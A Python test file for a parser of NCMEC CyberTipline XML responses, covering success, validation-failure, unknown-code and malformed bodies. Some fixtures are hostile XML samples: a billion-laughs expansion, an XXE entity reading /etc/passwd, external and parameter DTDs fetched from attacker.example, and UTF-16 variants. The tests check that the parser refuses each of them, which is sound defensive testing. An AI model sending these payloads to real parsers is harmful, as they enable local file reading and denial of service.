"""Parsing NCMEC's responses (spec §2, §3): the shapes NCMEC sends, unknown codes, and hostile XML."""

from __future__ import annotations

import pytest

from vigil.errors import ProtocolError
from vigil.safety.ncmec import CyberTiplineResponseError, ResponseCode, parse_response
from vigil.safety.ncmec.response import MAX_RESPONSE_BYTES

UPLOAD_OK = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<reportResponse>
  <responseCode>0</responseCode>
  <responseDescription>Success</responseDescription>
  <reportId>1000001</reportId>
  <fileId>5f3a0c9e2b7d4e11a6c8f0b2d4e6a8c1</fileId>
  <hash>9e107d9d372bb6826bd81d3542a419d6</hash>
</reportResponse>
"""

DONE = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<reportDoneResponse>
  <responseCode>0</responseCode>
  <reportId>1000001</reportId>
  <files>
    <fileId>5f3a0c9e2b7d4e11a6c8f0b2d4e6a8c1</fileId>
    <fileId>00000000000000000000000000000002</fileId>
  </files>
</reportDoneResponse>
"""

VALIDATION_FAILED = b"""<?xml version="1.0" encoding="UTF-8"?>
<reportResponse><responseCode>4100</responseCode><responseDescription>Validation failed [1,638] -
cvc-complex-type.2.4.a: Invalid content was found starting with element 'ipCaptureEvent'. One of
'{industryClassification, originalFileHash}' is expected.</responseDescription></reportResponse>"""


def test_upload_response() -> None:
    response = parse_response(UPLOAD_OK)
    assert response.root == "reportResponse"
    assert response.ok and response.response_code == 0 and response.known_code is ResponseCode.SUCCESS
    assert response.response_description == "Success"
    assert response.report_id == 1000001
    assert response.file_id == "5f3a0c9e2b7d4e11a6c8f0b2d4e6a8c1"
    assert response.hash == "9e107d9d372bb6826bd81d3542a419d6"


def test_submit_response_as_text() -> None:
    body = "<reportResponse><responseCode>0</responseCode><reportId>42</reportId></reportResponse>"
    response = parse_response(body)
    assert response.report_id == 42 and response.file_id is None and response.response_description is None


def test_done_response_lists_files() -> None:
    response = parse_response(DONE)
    assert response.root == "reportDoneResponse" and response.ok
    assert response.file_ids == ("5f3a0c9e2b7d4e11a6c8f0b2d4e6a8c1", "00000000000000000000000000000002")


def test_validation_failure_keeps_code_and_description() -> None:
    response = parse_response(VALIDATION_FAILED)
    assert not response.ok and response.known_code is ResponseCode.VALIDATION_FAILED
    assert response.response_description is not None
    assert "cvc-complex-type.2.4.a" in response.response_description


def test_an_unknown_code_is_kept_not_refused() -> None:
    response = parse_response(b"<reportResponse><responseCode>4242</responseCode></reportResponse>")
    assert response.response_code == 4242 and response.known_code is None and not response.ok


def test_unknown_children_are_ignored() -> None:
    body = b"<reportResponse><responseCode>0</responseCode><newThing>x</newThing></reportResponse>"
    assert parse_response(body).ok


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<reportResponse><responseCode>0</responseCode><responseDescription>&lol3;</responseDescription></reportResponse>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<reportResponse><responseCode>0</responseCode><responseDescription>&xxe;</responseDescription></reportResponse>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE reportResponse SYSTEM "http://attacker.example/evil.dtd">
<reportResponse><responseCode>0</responseCode></reportResponse>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<reportResponse><responseCode>0</responseCode></reportResponse>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        XXE,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        # The same attack in UTF-16, which a byte-level look for "<!DOCTYPE" does not see: defusedxml must.
        XXE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
        .decode()
        .encode("utf-16"),
        BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
        .decode()
        .encode("utf-16"),
    ],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity", "xxe-utf16", "laughs-utf16"],
)
def test_malicious_xml_is_refused(body: bytes) -> None:
    with pytest.raises(CyberTiplineResponseError) as caught:
        parse_response(body)
    assert isinstance(caught.value, ProtocolError)
    assert "passwd" not in str(caught.value) and "lollol" not in str(caught.value)


def test_an_oversized_body_is_refused_before_parsing() -> None:
    padding = b" " * MAX_RESPONSE_BYTES
    with pytest.raises(CyberTiplineResponseError, match="exceeds"):
        parse_response(b"<reportResponse><responseCode>0</responseCode>" + padding + b"</reportResponse>")


def test_deep_nesting_is_refused() -> None:
    deep = b"<a>" * 50 + b"</a>" * 50
    with pytest.raises(CyberTiplineResponseError, match="deeply"):
        parse_response(b"<reportResponse><responseCode>0</responseCode>" + deep + b"</reportResponse>")


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (
            b"<reportResponse><responseDescription>ok</responseDescription></reportResponse>",
            "no responseCode",
        ),
        (b"<reportResponse><responseCode>zero</responseCode></reportResponse>", "not an integer"),
        (b"<reportResponse><responseCode></responseCode></reportResponse>", "not an integer"),
        (
            b"<reportResponse><responseCode>0</responseCode><reportId>12x</reportId></reportResponse>",
            "not an integer",
        ),
        (
            b"<reportResponse><responseCode>0</responseCode><responseCode>4100</responseCode></reportResponse>",
            "duplicate",
        ),
        (b"<html><body>502 Bad Gateway</body></html>", "unexpected root"),
        (b"<reportResponse><responseCode>0</responseCode>", "malformed"),
        (b"", "malformed"),
        (b"Service Unavailable", "malformed"),
    ],
)
def test_malformed_or_foreign_bodies_are_refused(body: bytes, message: str) -> None:
    with pytest.raises(CyberTiplineResponseError, match=message):
        parse_response(body)
